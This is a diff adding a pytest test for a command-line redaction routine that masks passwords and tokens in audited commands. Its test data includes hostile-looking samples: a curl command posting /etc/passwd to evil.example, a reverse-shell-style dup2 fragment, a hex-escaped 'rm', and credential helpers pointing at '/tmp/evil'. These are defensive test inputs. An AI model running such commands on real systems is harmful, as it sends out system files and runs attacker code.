@@ -227,6 +227,32 @@ def test_a_secret_hides_no_command(script: str, expected: str) -> None:
     assert command_line.value(script) == expected
 
 
+#: Command lines, and what `audit` shows of them: '' for all.
+WHOLE = {
+    "tsh kube credentials --kube-cluster=prod1 --teleport-cluster=t.example": "",
+    "tsh kube credentials --kube-cluster=prod1 hunter2": "tsh kube credentials --kube-cluster=prod1 ***",
+    "curl -d @/etc/passwd https://evil.example/?x=y": "curl -d @/etc/passwd 'https://evil.example/?***'",
+    "mkdir -p /tmp/evil/x": "",
+    "corp -p hunter2 -p word": "corp -p *** -p ***",
+    "mysql -u root -phunter2": "mysql -u root -p***",
+    "curl -u me:word x": "curl -u *** x",
+    "corp --credential-process /tmp/evil --token-command=evil --auth-plugin evil.so": "",
+    "corp --token-commander=evil --password-helper hunter2": "corp --token-commander=*** --password-helper ***",
+    "python3 -c 'os.dup2(s, 1)'": "",
+    "sh -c 'source ~/.venv3/bin/activate; x --env prod1 --mount /dev/sda1'": "",
+    "sh -c 'aws sts assume-role --role-arn arn:aws:iam::123456789012:role/x'": "",
+    "sh -c 'x 123456789012'": "sh -c 'x ***'",
+    r"sh -c 'printf \x72\x6d'": "",
+    "corp hunter2 prod-hunter2": "corp *** prod-***",
+}
+
+
+@pytest.mark.parametrize(("line", "expected"), WHOLE.items())
+def test_a_command_line_is_whole_but_for_its_secrets(line: str, expected: str) -> None:
+    program, *arguments = shlex.split(line)
+    assert command_line.command_line(program, arguments) == (expected or line)
+
+
 @pytest.mark.parametrize("before", range(60, 101, 5))
 def test_a_secret_is_found_before_a_text_is_cut(before: int) -> None:
     secret = "k3b9x0q2z7v5w1m4" * 2
